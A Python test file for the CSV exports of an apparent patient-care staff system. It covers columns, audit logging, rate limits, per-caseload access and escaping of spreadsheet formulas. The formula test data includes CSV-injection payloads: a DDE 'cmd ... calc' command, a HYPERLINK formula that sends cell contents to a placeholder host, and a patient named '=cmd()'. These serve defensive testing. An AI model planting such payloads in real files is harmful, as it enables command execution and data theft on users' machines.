"""Records as CSV: whole, of those whom one sees, on record, and with nothing in a cell that a spreadsheet would run."""

import csv
from dataclasses import replace
from datetime import date
from io import StringIO

import pytest

from care import access, escalations, exports, patients, staff
from care.escalations import Severity
from care.heart.settings import Settings
from staff_api.csv_stream import cell, lines
from tests.ward import SETTINGS

FORMULAS = [begin + rest for begin in ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋") for rest in (
    "1+1", 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://x/?q="&A1,"see")', "SUM(1,1)", '"; DROP')]  # fmt: skip


@pytest.fixture
def url(request: pytest.FixtureRequest) -> str:
    """Nothing here depends on the database but the queries, which are run on both below."""
    return request.getfixturevalue(f"{getattr(request, 'param', 'sqlite')}_url")


@pytest.fixture
def settings() -> Settings:
    return replace(SETTINGS, staff=replace(SETTINGS.staff, exports_an_hour=12))


def rows(answer) -> list[dict[str, str]]:
    assert answer.status == 200, answer.text
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert answer.text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(answer.text.removeprefix("\ufeff"))))


def some(turn) -> tuple[int, int]:
    ids = []
    for number, name in enumerate(("Amina Yusuf", "=cmd()"), 1):
        patient = patients.add(turn, name, date(1960, 1, number), "en")
        patients.link(turn, patient.id, 100 + number, "self")
        patients.change(turn, patient.id, state="active", consented=True)
        escalations.open_(turn, patient.id, Severity.URGENT, "pain", "Severe pain", "9")
        ids.append(patient.id)
    return ids[0], ids[1]


async def test_each_export_has_the_columns_of_its_dictionary_and_leaves_a_trace(door, clinic):
    first, second = await clinic.run("ops", some)
    listed = {one["kind"]: one for one in (await door.get("/exports")).json["items"]}
    assert set(listed) == set(exports.EXPORTS)
    for kind, export in listed.items():
        names = [one["name"] for one in export["columns"]]
        answer = await door.get(f"/exports/{kind}.csv")
        assert answer.text.removeprefix("\ufeff").splitlines()[0] == ",".join(names)
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{kind}.csv"'
        dictionary = rows(await door.get(f"/exports/{kind}/dictionary.csv"))
        assert [(one["column"], one["meaning"]) for one in dictionary] == [
            (one["name"], one["means"]) for one in export["columns"]]
    named = rows(await door.get("/exports/patients.csv"))
    assert [(one["patient_id"], one["name"], one["consented"]) for one in named] == [
        (str(first), "Amina Yusuf", "true"), (str(second), "'=cmd()", "true")]
    assert len(rows(await door.get(f"/exports/obligations.csv?patient_id={second}"))) == 1
    assert rows(await door.get("/exports/obligations.csv?first_day=2026-11-24")) == []
    assert len(rows(await door.get("/exports/obligations.csv?first_day=2026-11-23&last_day=2026-11-23"))) == 2
    assert (await door.get("/exports/doses.csv?first_day=2026-11-23&last_day=2026-11-22")).code == "invalid_query"
    changes = (await door.get("/audit/changes")).json["items"]
    assert [one["facts"]["export"] for one in changes if one["what"] == "Exported"][-1] == "patients"
    seen = (await door.get("/audit/accesses")).json["items"]
    assert "GET /api/v1/exports/{kind}.csv" in {one["what"] for one in seen}


async def test_exports_have_a_budget_of_their_own(door):
    for _ in range(12):
        assert (await door.get("/exports/doses.csv")).status == 200
    over = await door.get("/exports/doses.csv")
    assert (over.code, over.headers["Retry-After"]) == ("too_many_requests", "3600")
    assert (await door.get("/worklist/counts")).status == 200


async def test_who_looks_after_some_gets_those_alone(stranger, clinic):
    mine, _ = await clinic.run("ops", some)
    worker = await clinic.run("ops", staff.add, "sam@riverside.example", "Sam", "no password", "social_worker")
    await clinic.run("ops", access.join_caseload, worker.id, mine)
    opened = await clinic.run(f"staff:{worker.id}", staff.sign_in, worker.id)
    sam = stranger.as_(Cookie=f"careward={opened.token}", X_CSRF_Token=opened.session.csrf)
    assert [one["patient_id"] for one in rows(await sam.get("/exports/patients.csv"))] == [str(mine)]
    assert [one["patient_id"] for one in rows(await sam.get("/exports/obligations.csv"))] == [str(mine)]


async def test_more_than_fit_at_once_come_each_once(door, clinic, monkeypatch):
    monkeypatch.setattr("staff_api.views.exports.AT_ONCE", 7)

    def many(turn) -> None:
        for number in range(50):
            patients.add(turn, f"Patient {number}", date(1960, 1, 1), "en")

    await clinic.run("ops", many)
    numbers = [int(one["patient_id"]) for one in rows(await door.get("/exports/patients.csv"))]
    assert len(numbers) == 50
    assert numbers == sorted(set(numbers))


@pytest.mark.parametrize("url", ["sqlite", "postgres"], indirect=True)
async def test_every_export_can_be_read_on_both_databases(clinic):
    await clinic.run("ops", some)
    wanted = exports.Wanted(patient_id=1, first_day=date(2026, 11, 1), last_day=date(2026, 12, 1))
    found = {kind: len(await clinic.read(exports.lines, kind, wanted, 0, 10)) for kind in exports.EXPORTS}
    assert found == {"patients": 1, "answers": 0, "doses": 0, "obligations": 1}


async def test_what_a_patient_says_is_in_it_as_words(ward):
    phone = await ward.enrolled()
    await phone.says("/check")
    await phone.taps("9")
    answered = await ward.clinic.read(exports.lines, "answers", exports.Wanted(phone.patient_id), 0, 10)
    names = [one.name for one in exports.EXPORTS["answers"].columns]
    first = dict(zip(names, answered[0][1:], strict=True))
    assert (first["questionnaire"], first["question_key"], first["value"]) == ("symptom_check", "pain", 9)


@pytest.mark.parametrize("said", FORMULAS)
def test_nothing_in_a_cell_is_run(said):
    read, = csv.reader(StringIO(lines([[cell(said)]]).decode(), newline=""))
    assert read == [f"'{said}"]


def test_what_is_no_formula_stays_as_it_is():
    assert [cell(one) for one in (-5, 3.5, None, True, "a=b", "38,5", date(2026, 1, 2), {"a": "é"})] == [
        "-5", "3.5", "", "true", "a=b", "38,5", "2026-01-02", '{"a": "é"}']
